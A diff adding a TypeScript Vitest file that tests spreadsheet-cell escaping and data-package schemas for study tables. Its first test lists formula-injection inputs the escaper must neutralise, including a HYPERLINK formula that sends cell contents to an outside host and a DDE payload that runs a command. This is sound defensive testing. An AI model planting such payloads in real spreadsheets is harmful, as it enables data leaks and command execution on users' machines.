@@ -1,0 +1,109 @@
+// Claims about the forms of the tables that other programs read: spreadsheets and data packages.
+
+import { expect, test } from "vitest";
+import { analyseStudy } from "../../../src/experiment/analysis/findings.ts";
+import { planStudy } from "../../../src/experiment/plan/study-plan.ts";
+import { dataPackage } from "../../../src/experiment/tables/data-package.ts";
+import { excelCellText } from "../../../src/experiment/tables/excel-text.ts";
+import { studyTables } from "../../../src/experiment/tables/study-tables.ts";
+import { weeksTable } from "../../../src/experiment/tables/weeks.ts";
+import { outcomeWith } from "../fixtures/outcomes.ts";
+import { sampleScenario } from "../fixtures/scenarios.ts";
+
+test.each([
+  '=HYPERLINK("http://e/?"&A1)',
+  "=cmd|'/c calc'!A1",
+  "+1",
+  "-1+1",
+  "-2.5",
+  "@SUM(1)",
+  " =1",
+  "\t=1",
+  "\n=1",
+  "\r",
+  "|x",
+  "\0x",
+  "＝1+1",
+  " ＋1",
+  "\u00a0=1",
+])("a spreadsheet program takes %j for a text", (text) => {
+  const cell = excelCellText(text);
+  const content = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
+  expect(content).toBe(`'${text}`);
+});
+
+test.each<[string | number | boolean | undefined, string]>([
+  [-2.5, "-2.5"],
+  [-0.0001, "-0.0001"],
+  [1e21, "1e+21"],
+  [Number.NaN, ""],
+  [undefined, ""],
+  [true, "true"],
+  ["plain", "plain"],
+  ["a=b", "a=b"],
+  ["", ""],
+])("a spreadsheet program finds %j as it is", (value, cell) => {
+  expect(excelCellText(value)).toBe(cell);
+});
+
+const swept = sampleScenario(
+  { sweep: [{ lever: "staff.teams", values: [3, 6] }], question: "What happens?\n" },
+  { replications: 2 },
+);
+
+function study() {
+  const outcome = outcomeWith({ engagementQuality: 0.5 });
+  const row = { cellIndex: 0, replication: 1, status: "ok", outcome } as const;
+  return analyseStudy(planStudy(swept, { kind: "sweep" }), [row]);
+}
+
+test("a negative value of a lever is a number in every form of the table", () => {
+  const [runs] = studyTables(study());
+  const [row] = runs.rows();
+  expect(row[1]).toBe(3);
+});
+
+test("every column of every table has its type, its meaning and, where it has one, its unit", () => {
+  const results = study();
+  const tables = studyTables(results);
+  const [runsTable] = tables;
+  const weeks = weeksTable(results);
+  const described = JSON.parse(dataPackage(results, tables, [runsTable], [weeks]));
+  expect(described).toMatchObject({ name: "sample", title: "A sample", description: "What happens?" });
+  expect(described.resources.map(({ path }: { path: string }) => path)).toEqual([
+    ...tables.map(({ name }) => `${name}.csv`),
+    "runs.parquet",
+    "weeks.parquet",
+  ]);
+  const inOrder = [...tables, runsTable, weeks];
+  for (const [place, table] of inOrder.entries()) {
+    const { fields } = described.resources[place].schema;
+    expect(fields.map(({ name }: { name: string }) => name)).toEqual(table.fields.map(({ name }) => name));
+    for (const { type, description } of fields) {
+      expect(["string", "number", "integer", "boolean"]).toContain(type);
+      expect(description).toMatch(/\w/);
+    }
+  }
+  const [runs] = described.resources;
+  expect(runs.schema.fields.slice(0, 4)).toEqual([
+    { name: "plan", type: "string", description: expect.any(String) },
+    { name: "staff.teams", type: "number", description: expect.any(String), unit: expect.any(String) },
+    { name: "replication", type: "integer", description: expect.any(String) },
+    { name: "copyOf", type: "string", description: expect.any(String) },
+  ]);
+  expect(runs.schema.missingValues).toEqual([""]);
+});
+
+test("the types said are those of the values", () => {
+  for (const { fields, rows } of studyTables(study())) {
+    for (const row of rows()) {
+      for (const [place, { type, unit }] of fields.entries()) {
+        const value = row[place];
+        if (value === undefined || Number.isNaN(value)) continue;
+        const said = type ?? (unit === "" ? "string" : "number");
+        expect(said === "integer" ? "number" : said).toBe(typeof value);
+        if (said === "integer") expect(Number.isInteger(value)).toBe(true);
+      }
+    }
+  }
+});
